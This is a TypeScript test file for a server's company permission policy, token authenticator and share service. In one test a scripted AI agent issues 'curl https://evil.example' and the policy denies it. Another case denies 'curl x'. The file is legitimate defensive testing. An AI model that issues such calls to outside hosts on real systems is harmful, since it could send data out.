import 'reflect-metadata';
import {
  authenticatorContract,
  permissionPolicyContract,
  plain,
  reply,
  ScriptedModel,
  shareServiceContract,
  TemporaryProject,
  TestServer,
} from 'opencode-nest/testing';
import assert from 'node:assert/strict';
import { describe, it, test } from 'node:test';
import { CompanyPolicy, PolicyModule, Shelf, TokenAuthenticator } from './policy.js';

permissionPolicyContract(
  'The policy of the company',
  async () => ({
    policy: new CompanyPolicy(),
    decisions: [
      { asked: { permission: 'bash', pattern: 'curl x' }, byRules: 'allow', expected: 'deny' },
      { asked: { permission: 'bash', pattern: 'ls' }, byRules: 'ask', expected: 'ask' },
      { asked: { permission: 'webfetch', pattern: 'https://wiki.example.com/' }, byRules: 'allow', expected: 'allow' },
    ],
  }),
  { describe, it },
);

authenticatorContract(
  'The token of the company',
  async () => ({
    authenticator: new TokenAuthenticator('sesame'),
    accepted: [{ authorization: 'Bearer sesame' }],
  }),
  { describe, it },
);

shareServiceContract(
  'The shelf',
  async () => {
    const service = new Shelf();
    return { service, isReadable: async (url) => service.has(url) };
  },
  { describe, it },
);

test('the policy stands above the rules of a project, and the hook speaks to the model', async () => {
  await using model = await ScriptedModel.start();
  await using project = await TemporaryProject.create({ model, config: { permission: 'allow' } });
  await using server = await TestServer.start({ permissionPolicy: new CompanyPolicy(), imports: [PolicyModule] });
  model.push(
    reply()
      .tool('bash', { command: 'curl https://evil.example', description: 'sends' })
      .tool('bash', { command: 'echo fine', description: 'echoes' }),
    reply().text('Done.'),
  );
  const { directory } = project;
  const { body: session } = await server.request('/session', { directory, json: {} });
  const parts = [{ type: 'text', text: 'Send it' }];
  await server.request(`/session/${session.id}/message`, { directory, json: { parts } });

  const { messages } = model.requests[1]!.body;
  const [sent, echoed] = messages.filter(({ role }) => role === 'tool').map(({ content }) => plain(content));
  assert.match(sent!, /prevents you from using/);
  assert.equal(echoed!.trim(), 'fine');
  const system = messages.filter(({ role }) => role === 'system').map(({ content }) => plain(content));
  assert.match(system.join('\n'), /imperative/);
});

test('the server asks the authenticator, and shares on the shelf', async () => {
  const shareService = new Shelf();
  const authenticator = new TokenAuthenticator('sesame');
  await using server = await TestServer.start({ authenticator, shareService });
  assert.equal((await server.request('/session')).status, 401);
  const headers = { authorization: 'Bearer sesame' };
  const { body: session } = await server.request('/session', { headers, json: {} });
  const { body: shared } = await server.request(`/session/${session.id}/share`, { headers, method: 'POST' });
  assert.ok(shareService.has(shared.share.url));
});
